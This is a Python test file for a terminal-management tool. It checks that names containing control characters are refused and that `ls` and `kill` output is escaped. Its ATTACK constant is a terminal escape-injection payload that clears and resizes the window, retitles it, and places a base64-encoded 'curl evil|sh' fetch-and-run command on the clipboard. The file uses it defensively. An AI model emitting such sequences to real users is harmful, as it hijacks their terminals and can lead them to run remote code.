"""Issue 35, text a person's terminal prints: a terminal name or command set by any token holder (an agent, a
prompt-injected one, an MCP client elsewhere) cannot put text on the clipboard (OSC 52), retitle (OSC 0),
clear (CSI 2J) or resize (CSI 8t) the window of the person who runs `lookout ls` or `lookout kill`. Names
with control characters are refused when set; what reaches the disk anyway (a command, a name an older
lookout stored) is printed escaped. The daemon runs as a subprocess and `ls` as the command."""
from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from tests.conftest import REPO, Daemon

ATTACK = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;owned\x07\x1b[2J\x1b[8;1;1t\x9b2J"


def _lookout(daemon: Daemon, *args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "lookout", *args, "--data-dir", str(daemon.data_dir)], cwd=REPO,
                          env=daemon.env, capture_output=True, timeout=60)  # fmt: skip


def test_a_name_with_control_characters_is_refused_when_set(tmp_path: Path) -> None:
    daemon = Daemon(tmp_path / "data").start()
    with daemon.client() as api:
        refused = api.post("/v1/terminals", json={"command": "bash", "name": f"build{ATTACK}"})
        assert refused.status_code == 422, refused.text
        assert "control characters" in refused.text
        assert api.get("/v1/terminals").json()["terminals"] == []
        accepted = api.post("/v1/terminals", json={"command": "bash", "name": "build ✓ 日本"})
        assert accepted.status_code == 201 and accepted.json()["name"] == "build ✓ 日本"


def test_ls_and_kill_print_no_escape_from_a_command_or_a_stored_name(tmp_path: Path) -> None:
    daemon = Daemon(tmp_path / "data").start()
    with daemon.client() as api:
        created = api.post("/v1/terminals", json={"command": ["sh", "-c", "sleep 600", ATTACK]})
        assert created.status_code == 201, created.text
        tid = created.json()["id"]
        assert "\x1b" in api.get(f"/v1/terminals/{tid}").json()["command"]  # the command is stored as given
    daemon.stop()  # the terminal goes on under its holder; meta.json now as an older lookout could have left it
    meta_path = daemon.data_dir / "terminals" / tid / "meta.json"
    meta = json.loads(meta_path.read_bytes())
    meta["name"] = f"named{ATTACK}"
    meta_path.write_text(json.dumps(meta))

    listed = _lookout(daemon, "ls")
    assert listed.returncode == 0, listed.stderr
    out = listed.stdout.decode()
    assert tid in out and "running" in out
    assert b"\x1b" not in listed.stdout and "\x9b" not in out and b"\x07" not in listed.stdout
    assert "named\\033]52;c;Y3VybCBldmlsfHNo\\007\\033]0;owned\\007\\033[2J\\033[8;1;1t\\2332J" in out

    killed = _lookout(daemon, "kill", tid)
    assert killed.returncode == 0 and tid in killed.stdout.decode(), killed.stderr
    assert b"\x1b" not in killed.stdout + killed.stderr
